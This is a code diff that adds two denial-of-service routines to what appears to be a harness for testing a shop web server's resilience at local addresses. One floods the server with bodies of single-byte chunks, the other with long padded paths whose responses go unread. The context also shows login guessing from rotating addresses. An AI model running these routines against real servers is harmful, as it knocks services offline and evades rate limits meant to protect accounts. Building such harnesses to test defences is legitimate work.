@@ -81,6 +81,19 @@ function longCookie(): string {
   return `GET /en/catalogo HTTP/1.1\r\nHost: ${host}\r\nCookie: ${cookie}\r\n\r\n`
 }
 
+const fineBody = '1\r\nx\r\n'.repeat(100_000)
+
+/**
+ * Sends a body of 100,000 chunks of a byte with a request for a stored page, which nobody reads. From an address of its own, because
+ * the shop lets it open connections slowly, which would weaken other attacks.
+ */
+function sendFineBody(): Socket {
+  const socket = open('127.0.0.3')
+  socket.resume()
+  socket.write(`GET /en/catalogo HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\n\r\n${fineBody}`)
+  return socket
+}
+
 /** Tries an access code, each time from another address. */
 function tryCode(number: number): Socket {
   const form = `username=client${number}&password=wrong-${number}`
@@ -117,6 +130,8 @@ const [script] = /\/static\/framework-[^"]+/.exec(page) ?? []
 if (!script) throw new Error('the list names no script')
 const unreadScripts = () => numbered(25, () => send(numbered(10, () => script)))
 
+const fineBodies = () => numbered(20, sendFineBody)
+const unreadPages = () => numbered(25, (number) => send([`/en/stock/1/${'%'.repeat(3_900)}${number}`]))
 const longCookies = () => numbered(20, () => sendAgainAndAgain(longCookie))
 
 function searchesLeftAlone(): Socket[] {
@@ -139,6 +154,8 @@ const ATTACKS: Readonly<Record<string, () => Socket[]>> = {
   '20 connections with large JSON': largeBodies,
   '25 connections with unread scripts': unreadScripts,
   '20 connections with long cookies': longCookies,
+  '20 bodies in chunks of a byte': fineBodies,
+  '25 pages of long paths, unread': unreadPages,
   'all of these': () =>
     [
       listsOnOneConnection,
@@ -152,6 +169,8 @@ const ATTACKS: Readonly<Record<string, () => Socket[]>> = {
       largeBodies,
       unreadScripts,
       longCookies,
+      fineBodies,
+      unreadPages,
     ].flatMap((attack) => attack()),
 }
 
